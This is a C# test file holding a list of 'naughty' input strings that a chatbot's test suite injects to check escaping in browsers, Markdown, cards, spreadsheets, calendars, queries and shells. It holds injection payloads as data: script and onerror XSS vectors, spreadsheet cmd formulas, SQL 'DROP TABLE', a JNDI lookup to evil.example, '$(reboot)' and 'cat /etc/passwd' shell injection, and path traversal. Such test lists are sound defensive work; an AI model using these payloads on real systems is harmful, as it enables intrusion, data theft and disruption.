namespace ConsultBot.Browser.Tests.Naughty;

/// <summary>Texts that mean something to one of those who handle them on the way: browsers, Markdown, cards, spreadsheets, calendars, queries, templates, terminals. A script that runs
/// says so in <c>window.ran</c>. Continuous integration tries one of each kind; all of them where CONSULTBOT_NAUGHTY is "full".</summary>
internal static class NaughtyTexts
{
    private static readonly string[] Sample =
    [
        "\"><script>ran.push(2)</script>", "<img src=x onerror=ran.push(4)>", "[agenda](javascript:ran.push(12)) ![x](https://evil.example/x.png) https://evil.example", "{\"type\":\"AdaptiveCard\",\"version\":\"1.2\",\"body\":[{\"type\":\"TextBlock\",\"text\":\"x\"}]}",
        "=HYPERLINK(\"https://evil.example\",\"x\")", "x\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nBcc: all@example.org", "' or PartitionKey ne '' ${title} {0} {title} {{7*7}}", "\u202Ertl\u202C \u200Bzero\u200Dwidth 👩‍👩‍👧‍👦 社會 مرحبا \u0007\u001B[2J\u009B2J",
    ];

    private static readonly string[] All =
    [
        // Browsers.
        "<script>ran.push(1)</script>", "\"><script>ran.push(2)</script>", "</title></textarea></style><script>ran.push(3)</script>", "<img src=x onerror=ran.push(4)>", "<svg/onload=ran.push(5)>",
        "<a href=\"javascript:ran.push(6)\">agenda</a>", "<iframe srcdoc=\"<script>parent.ran.push(7)</script>\">", "' onmouseover='ran.push(8)' x='", "<style>@import 'https://evil.example/x.css'</style>",
        "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>", "&lt;script&gt;ran.push(9)&lt;/script&gt; &#60;b&#62;", "javascript:ran.push(10)", "<math><mi//xlink:href=\"data:x,<script>ran.push(11)</script>\">",

        // Markdown and mentions.
        "[agenda](javascript:ran.push(12))", "![x](https://evil.example/x.png)", "[x]: https://evil.example \"t\"", "# heading\n> quote", "**a** __b__ ~~c~~ `d` | e |", "<at>ConsultBot</at> <https://evil.example>",

        // Cards and activities.
        "{\"type\":\"AdaptiveCard\",\"version\":\"1.2\",\"body\":[{\"type\":\"TextBlock\",\"text\":\"x\"}]}", "${title} {{DATE(2032-09-14T06:08:39Z,SHORT)}} {{TIME(x)}}", "\"},\"workshopForm\":\"x\",\"consultbot\":{\"action\":\"PassOn\"",

        // Spreadsheets.
        "=HYPERLINK(\"https://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1,\"2\";3\t4", "-2+3+cmd|'x'!A1",

        // Calendars and headers.
        "x\r\nEND:VCALENDAR\r\nBEGIN:VEVENT", "a\\nb\\,c\\;d;e:f,g", "Bcc: all@example.org\r\nX-Header: y", "BEGIN:VALARM\nTRIGGER:-PT1M",

        // Queries, templates, shells, paths.
        "' or PartitionKey ne ''", "1; DROP TABLE People; --", "{0} {title} {count} %s%n", "${jndi:ldap://evil.example/x} #{7*7} <%= 7*7 %>", "$(reboot) `id` | cat /etc/passwd", "../../../../etc/passwd\\..\\x",

        // Characters.
        "\u202Ertl\u202C \u200Bzero\u200Dwidth\uFEFF", "T\u0334\u031B\u033Ah\u0337\u0333e a\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦🇰🇪🏳️‍🌈 社會 مرحبا שלום", "\u001B[2J\u0007\u0001 \u0085\u2028\u2029 x", "½ ⅓ ＜script＞ ﷺ İı ẞ", "99999999999999999999 9999999999", "-0 1e999 NaN ٣ Ⅻ １２３",
    ];
    public static IReadOnlyList<string> InUse { get; } = Environment.GetEnvironmentVariable("CONSULTBOT_NAUGHTY") == "full" ? [.. All, .. Sample] : Sample;
}
